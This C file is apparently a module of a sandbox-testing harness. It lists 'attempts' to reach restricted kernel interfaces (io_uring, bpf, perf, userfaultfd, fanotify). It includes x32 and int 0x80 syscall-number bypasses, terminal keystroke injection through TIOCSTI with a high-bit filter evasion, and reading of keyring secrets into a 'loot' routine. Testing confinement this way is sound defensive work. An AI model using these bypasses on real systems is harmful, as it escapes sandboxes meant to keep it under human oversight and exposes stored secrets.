// The kernel's own machinery, through every set of numbers it answers to.

#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/io_uring.h>
#include <linux/perf_event.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attack.h"

static void io_uring(char **arguments) {
    (void)arguments;
    struct io_uring_params p = {0};
    syscall(SYS_io_uring_setup, 4, &p);
}

static void bpf_map(char **arguments) {
    (void)arguments;
    union bpf_attr a = {.map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 4, .max_entries = 1};
    syscall(SYS_bpf, BPF_MAP_CREATE, &a, sizeof a);
}

static void perf(char **arguments) {
    (void)arguments;
    struct perf_event_attr a = {.type = PERF_TYPE_SOFTWARE, .size = sizeof a, .config = PERF_COUNT_SW_TASK_CLOCK};
    a.exclude_kernel = 1, a.exclude_hv = 1;
    syscall(SYS_perf_event_open, &a, 0, -1, -1, 0);
}

static void userfault(char **arguments) {
    (void)arguments;
    syscall(SYS_userfaultfd, O_CLOEXEC | 1 /* user mode only */);
}

static void fanotify(char **arguments) {
    (void)arguments;
    syscall(SYS_fanotify_init, 0x200 /* FID */, O_RDONLY);
}

// io-uring-x32: the same call under the number of the third set
static void io_uring_x32(char **arguments) {
    (void)arguments;
#ifdef __x86_64__
    struct io_uring_params p = {0};
    syscall(0x40000000L | 425, 4, &p);
#endif
}

// io-uring-i386: the same call as a 32-bit program would make it
static void io_uring_i386(char **arguments) {
    (void)arguments;
#ifdef __x86_64__
    void *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (low == MAP_FAILED) return;
    memset(low, 0, 4096);
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(425L), "b"(4L), "c"(low) : "memory", "r8", "r9", "r10", "r11");
#endif
}

// keep-key NAME SECRET PROGRAM …: runs a program with a key in its session keyring
static void keep_key(char **arguments) {
    syscall(SYS_keyctl, 1 /* JOIN_SESSION_KEYRING */, NULL);
    syscall(SYS_add_key, "user", arguments[0], arguments[1], strlen(arguments[1]), -3 /* the session's */);
    execvp(arguments[2], arguments + 2);
    perror(arguments[2]);
    _exit(126);
}

// read-key NAME: looks for it in the keyring that came along
static void read_key(char **arguments) {
    long key = syscall(SYS_keyctl, 10 /* SEARCH */, -3, "user", arguments[0], 0);
    char bytes[256];
    long length = syscall(SYS_keyctl, 11 /* READ */, key, bytes, sizeof bytes);
    if (key > 0 && length > 0) loot(bytes, (size_t)length);
}

// type TEXT: as if a person had typed it at the terminal
static void type(char **arguments) {
    for (const char *c = arguments[0]; *c; c++) ioctl(0, 0x5412 /* TIOCSTI */, c);
    char end = '\n';
    ioctl(0, 0x5412, &end);
}

// type-high TEXT: the same with a bit set that the kernel does not look at
static void type_high(char **arguments) {
    for (const char *c = arguments[0]; *c; c++) syscall(SYS_ioctl, 0, 0x100005412UL, c);
    char end = '\n';
    syscall(SYS_ioctl, 0, 0x100005412UL, &end);
}

const struct attempt KERNEL[] = {
    {"io-uring", io_uring}, {"bpf", bpf_map},     {"perf", perf},
    {"userfault", userfault}, {"fanotify", fanotify}, {"io-uring-x32", io_uring_x32},
    {"io-uring-i386", io_uring_i386}, {"keep-key", keep_key}, {"read-key", read_key},
    {"type", type}, {"type-high", type_high}, {NULL, NULL},
};
